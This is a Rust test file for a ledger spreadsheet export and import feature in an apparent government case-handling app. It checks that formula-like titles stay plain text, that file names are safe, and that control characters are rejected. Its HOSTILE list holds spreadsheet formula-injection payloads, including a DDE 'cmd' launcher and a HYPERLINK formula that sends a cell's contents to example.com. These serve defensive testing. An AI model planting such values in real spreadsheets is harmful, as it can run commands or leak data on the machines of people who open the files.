//! Ledgers go out and come back: nothing is lost, nothing is added, and no text becomes anything but text.

use super::{fetch, package, printed, wanted};
use crate::support::{Client, Matter, TestApp, draft_input};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use domain::table::{Cell, Table};
use serde_json::{Value, json};
use sheets::{Limits, Sheet, SheetColumn, write_xlsx};

/// What spreadsheet programs, the writer of workbooks or the reader might take for something else.
const HOSTILE: [&str; 8] = [
    "=HYPERLINK(\"http://example.com/?x=\"&A1,\"请点击\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u{FF1D}1+1",
    "'=1+1",
    "_x003D_1+1",
    "0012",
];

const DONE: &str = "good stored known faultCount faultyFile faults { line header code message }";

fn table(bytes: &[u8]) -> Table {
    sheets::read(bytes, &Limits::default()).expect("a workbook").remove(0)
}

/// The cells of the columns with these headers, row by row, without the header.
fn columns(table: &Table, headers: &[&str]) -> Vec<Vec<String>> {
    let header: Vec<String> = table.rows[0].cells.iter().map(Cell::shown).collect();
    let places = headers.iter().map(|one| header.iter().position(|other| other == one).expect(one));
    let places: Vec<usize> = places.collect();
    let cell = |row: &domain::table::Row, at: usize| row.cells.get(at).map(Cell::shown).unwrap_or_default();
    table.rows[1..].iter().map(|row| places.iter().map(|at| cell(row, *at)).collect()).collect()
}

async fn ledger(client: &Client) -> Vec<u8> {
    printed(client, "LEDGER", "XLSX", json!({ "filter": {} })).await
}

async fn bring_in(client: &Client, bytes: &[u8], more: Value) -> Value {
    let mut input = json!({ "fileName": "台账.xlsx", "content": STANDARD.encode(bytes) });
    for (name, value) in more.as_object().into_iter().flatten() {
        input[name] = value.clone();
    }
    client.call("importLedger", input, DONE).await.payload("importLedger").clone()
}

#[tokio::test]
async fn a_ledger_that_moves_to_another_server_says_the_same_there() {
    let (here, there) = (TestApp::new().await, TestApp::new().await);
    let gov = here.sign_in("gov1").await;
    bring_in(&gov, include_bytes!("../../../api/data/ledger/2020.csv"), json!({})).await;
    let first = ledger(&gov).await;
    let other = there.sign_in("gov1").await;
    let done = bring_in(&other, &first, json!({})).await;
    assert_eq!((&done["good"], &done["stored"], &done["faultCount"]), (&json!(23), &json!(23), &json!(0)), "{done}");
    let second = ledger(&other).await;
    assert_eq!(table(&first).rows, table(&second).rows);
    // Byte by byte: the same ledger is the same file.
    assert_eq!(first, second);
}

/// Matters in the hands of an agency whose titles and texts are these.
async fn handled(app: &TestApp) -> Vec<Matter> {
    let mut matters = Vec::new();
    for text in HOSTILE {
        let mut input = draft_input("SUGGESTION", text);
        input["background"] = json!(format!("{text} 情况说明,老年人就近就餐需求突出。"));
        let mut matter = app.draft_of("rep01", input).await;
        Box::pin(matter.bring_into_hands("mzj")).await;
        matters.push(matter);
    }
    matters
}

#[tokio::test]
async fn texts_that_look_like_formulas_are_texts_in_every_workbook_and_come_back_unchanged() {
    let app = TestApp::new().await;
    handled(&app).await;
    let gov = app.sign_in("gov1").await;
    let exported = ledger(&gov).await;
    let schedule = printed(&gov, "ASSIGNMENT_SCHEDULE", "XLSX", json!({ "filter": {} })).await;
    for (bytes, what) in [(&exported, "ledger"), (&schedule, "schedule")] {
        // No formula in any cell, and nothing that leads outside.
        assert_eq!(package::check(bytes), Ok(()), "{what}");
        let mut titles: Vec<String> = columns(&table(bytes), &["标题"]).concat();
        let mut sent = HOSTILE.map(str::to_owned).to_vec();
        titles.sort();
        sent.sort();
        assert_eq!(titles, sent, "{what}");
    }
    let before = app.ledger().await;
    let again = bring_in(&gov, &exported, json!({})).await;
    assert_eq!((&again["good"], &again["stored"], &again["known"]), (&json!(8), &json!(0), &json!(8)), "{again}");
    before.assert_same(&app.ledger().await, "importing what was exported");
}

#[tokio::test]
async fn names_of_files_and_sheets_carry_no_sign_of_a_path_or_a_formula() {
    let app = TestApp::new().await;
    let matter = handled(&app).await.remove(0);
    let wanted = wanted("SUBMISSION_FORM", "DOCX", json!({ "id": matter.id }));
    let answer = matter.lead().await.gql(super::ORDER, wanted).await;
    let name = answer.text("document.fileName");
    assert!(!name.contains(['/', '\\', ':', '"', '?', '<', '>', '|', '*']), "{name}");
    let (_, bytes) = fetch(&app, answer.text("document.url")).await;
    assert_eq!(package::check(&bytes), Ok(()));
    assert!(super::reading::Word::read(&bytes).shown().contains(HOSTILE[0]), "the title is printed as it is");
}

/// A ledger of one good line, in which a cell of this column holds this text.
fn with_cell(header: &str, text: &str) -> Vec<u8> {
    let whole = table(include_bytes!("../../../api/data/ledger/2020.csv"));
    let headers: Vec<String> = whole.rows[0].cells.iter().map(Cell::shown).collect();
    let at = headers.iter().position(|one| one == header).expect(header);
    let mut cells = whole.rows[1].cells.clone();
    cells.resize(headers.len(), Cell::Empty);
    cells[at] = Cell::Text(text.to_owned());
    let columns = headers.into_iter().map(|header| SheetColumn::text(header, 10.0)).collect();
    write_xlsx(&[Sheet { name: "台账".into(), columns, rows: vec![cells] }]).expect("written")
}

#[tokio::test]
async fn characters_that_control_or_deceive_are_refused_by_line_and_nothing_is_stored() {
    let app = TestApp::new().await;
    let gov = app.sign_in("gov1").await;
    let before = app.ledger().await;
    for hidden in
        ['\u{1}', '\u{7}', '\u{8}', '\u{1b}', '\u{7f}', '\u{9f}', '\u{200b}', '\u{202e}', '\u{2066}', '\u{fffe}']
    {
        for header in ["标题", "领衔人", "备注"] {
            let done = bring_in(&gov, &with_cell(header, &format!("养老{hidden}服务")), json!({})).await;
            assert_eq!((&done["stored"], &done["faultCount"]), (&json!(0), &json!(1)), "{hidden:?} {header} {done}");
            let fault = &done["faults"][0];
            let expected = (&json!(2), &json!(header), &json!("INVALID_VALUE"));
            assert_eq!((&fault["line"], &fault["header"], &fault["code"]), expected, "{hidden:?}: {fault}");
            let code = format!("U+{:04X}", u32::from(hidden));
            assert!(fault["message"].as_str().expect("a text").contains(&code), "{fault}");
        }
    }
    before.assert_same(&app.ledger().await, "importLedger");
}

#[tokio::test]
async fn the_file_of_faulty_lines_runs_no_formula_and_gives_the_texts_back() {
    let app = TestApp::new().await;
    let gov = app.sign_in("gov1").await;
    // A day that is none makes the line faulty; its title and remark look like formulas.
    let whole = table(&with_cell("标题", HOSTILE[0]));
    let headers: Vec<String> = whole.rows[0].cells.iter().map(Cell::shown).collect();
    let mut cells = whole.rows[1].cells.clone();
    cells.resize(headers.len(), Cell::Empty);
    for (header, text) in [("交办日期", "昨天"), ("备注", HOSTILE[1])] {
        cells[headers.iter().position(|one| one == header).expect(header)] = Cell::Text(text.into());
    }
    let columns_of = headers.iter().map(|header| SheetColumn::text(header.as_str(), 10.0)).collect();
    let file = write_xlsx(&[Sheet { name: "台账".into(), columns: columns_of, rows: vec![cells] }]).expect("written");
    let done = bring_in(&gov, &file, json!({ "skipFaulty": true })).await;
    assert_eq!((&done["stored"], &done["faultCount"]), (&json!(0), &json!(1)), "{done}");
    let left = STANDARD.decode(done["faultyFile"].as_str().expect("a file")).expect("base64");
    let titles = columns(&table(&left), &["标题", "备注"]);
    assert_eq!(titles, [[HOSTILE[0], HOSTILE[1]]]);
    match left.starts_with(b"PK") {
        true => assert_eq!(package::check(&left), Ok(())),
        // In a CSV file only an apostrophe tells a text from a formula.
        false => {
            let text = String::from_utf8(left).expect("UTF-8");
            assert!(text.contains("'=HYPERLINK") && text.contains("'+1+cmd"), "{text}");
        }
    }
}
